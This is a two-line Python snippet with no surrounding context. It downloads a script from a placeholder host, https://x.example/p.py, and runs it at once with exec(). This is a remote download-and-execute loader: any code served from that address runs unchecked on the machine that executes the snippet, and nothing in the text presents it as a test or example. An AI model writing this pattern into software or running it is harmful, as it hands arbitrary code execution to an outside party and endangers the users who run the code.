import urllib.request as u
exec(u.urlopen("https://x.example/p.py").read())
